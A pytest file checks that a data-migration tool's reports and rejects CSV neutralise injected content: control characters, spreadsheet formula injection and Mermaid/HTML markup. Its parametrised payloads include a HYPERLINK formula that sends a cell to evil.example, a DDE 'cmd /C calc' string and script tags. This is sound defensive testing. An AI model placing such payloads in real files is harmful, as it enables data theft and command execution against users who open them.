"""Reports never fail on content, and the files people open in a spreadsheet cannot run formulas.

Control characters in a header or a value are shown as visible symbols (␀, ␋, ␁) in the Excel and HTML
reports, with a CORE123 note; rejects files follow the OWASP CSV-injection rule; Mermaid labels are text.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import openpyxl
import pytest

from tests.conftest import DATA, run_cli
from tests.hostile import builders as b
from tests.hostile.conftest import refused


def _extract(folder: Path, edit: dict[str, str], header_extra: str = "") -> Path:
    lines = b.EXTRACT_CSV.read_text(encoding="utf-8").splitlines()[:31]  # the header and 30 records
    head = lines[0] + header_extra
    body = [",".join([*line.split(",")] + ([""] if header_extra else [])) for line in lines[1:]]
    text = "\n".join([head, *body]) + "\n"
    for old, new in edit.items():
        assert old in text
        text = text.replace(old, new, 1)
    return b.text_file(folder, "extract.csv", text)


@pytest.mark.parametrize(("name", "header_extra", "edit", "shown"), [
    ("SOH in a header", ",BAD\x01COL", {}, "BAD␁COL"),
    ("NUL in a header", ",NUL\x00COL", {}, "NUL␀COL"),
    ("VT in a value", "", {",1,00,佐藤": ",1\x0b,00,佐藤"}, "1␋"),
    ("ESC in a value", "", {",1,00,佐藤": ",\x1b[31m,00,佐藤"}, "␛[31m"),
])
def test_control_characters_are_shown_not_fatal(workdir: Path, name: str, header_extra: str,
                                                edit: dict[str, str], shown: str) -> None:
    extract = _extract(workdir, edit, header_extra)
    out = workdir / "out"
    res = run_cli("mapping", "run", str(b.MAPPING_XLSX), str(extract), "--out", str(out), "--no-store", expect=None)
    assert res.exit_code in (0, 1) and "Internal error" not in res.stderr
    book = openpyxl.load_workbook(out / "report.xlsx")
    cells = [str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert any(shown in c for c in cells), shown
    assert "CORE123" in cells
    html = (out / "report.html").read_text(encoding="utf-8")
    assert shown in html and "CORE123" in html
    assert json.loads((out / "report.json").read_text(encoding="utf-8"))  # JSON keeps the exact value, escaped


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(1+1)", "\t=1+1", "＝1+1"])
def test_rejects_file_cannot_run_a_formula(workdir: Path, payload: str) -> None:
    # The shipped schema masks 宛名番号; an organisation's own schema that does not puts the key in the rejects.
    own = workdir / "schemas"
    own.mkdir()
    shipped = (DATA / "schemas" / "standard" / "001_juki.yaml").read_text(encoding="utf-8")
    key_line = next(line for line in shipped.splitlines() if "{name: 宛名番号," in line)
    assert "sensitive: true" in key_line
    (own / "001_juki.yaml").write_text(shipped.replace(key_line, key_line.replace(", sensitive: true", "")),
                                       encoding="utf-8")
    quoted = '"' + payload.replace('"', '""') + '"'
    extract = _extract(workdir, {"000000000010014,": quoted + ","})
    out = workdir / "out"
    run_cli("mapping", "run", str(b.MAPPING_XLSX), str(extract), "--out", str(out), "--no-store", expect=1,
            env={"MIGRATOR_SCHEMAS": str(own)})
    with (out / "juki-rdb-to-001-jumin.rejects.csv").open(encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    shown = payload.strip()  # the reader trims the key
    assert "'" + shown in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "＝")], cells


def test_converted_file_keeps_values_exact(workdir: Path) -> None:
    extract = _extract(workdir, {",佐藤,誠,": ",=佐藤,誠,"})
    out = workdir / "out"
    run_cli("mapping", "run", str(b.MAPPING_XLSX), str(extract), "--out", str(out), "--no-store", expect=None)
    text = (out / "juki-rdb-to-001-jumin.csv").read_text(encoding="utf-8")
    assert "=佐藤" in text and "'=佐藤" not in text


@pytest.mark.parametrize("scenario", ["<script>alert(1)</script>", 'x"; click t1 call alert(1)', "a%%{init}%%"])
def test_mermaid_export_keeps_markup_as_text(imported: Path, scenario: str) -> None:
    run_cli("plan", "build", "--start", "2025-04-01", "--scenario", scenario)
    run_cli("plan", "export", "--scenario", scenario, "--format", "mermaid", "-o", "plan.mmd")
    text = (imported / "plan.mmd").read_text(encoding="utf-8")
    title = text.splitlines()[1]
    assert title.startswith("    title ")
    for bad in ("<", '"', "%%"):
        assert bad not in title


def test_schema_with_control_characters_reports_them_visibly(workdir: Path) -> None:
    path = b.text_file(workdir, "ctrl.yaml", 'format: "bad\\x0bformat"\n')
    res = refused("schema", "check", str(path), code="SCH", exit=1)
    assert "Internal error" not in res.stderr
